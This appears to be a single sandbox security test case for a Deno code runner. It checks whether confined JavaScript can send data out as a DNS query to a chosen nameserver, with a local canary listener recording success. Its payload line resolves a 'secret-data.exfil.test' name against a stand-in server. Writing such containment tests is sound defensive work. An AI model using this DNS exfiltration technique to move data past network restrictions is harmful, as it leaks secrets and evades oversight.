# id: net-dns-exfil
# category: network
# goal: send data out as a DNS query to a chosen server
# success-if: the UDP listener on @CANARY_PORT@ saw a query, or BREACH
# with: prelude.py

await claim(r"""
(async () => { try { await Deno.resolveDns("secret-data.exfil.test", "A", {nameServer:{ipAddr:"127.0.0.1", port:@CANARY_PORT@}, signal: AbortSignal.timeout(1500)}); return "answered" } catch (e) { if (e.name === "NotCapable" || e.name === "PermissionDenied") throw e; return "query sent (" + e.name + ")" } })()
""", seconds=12)
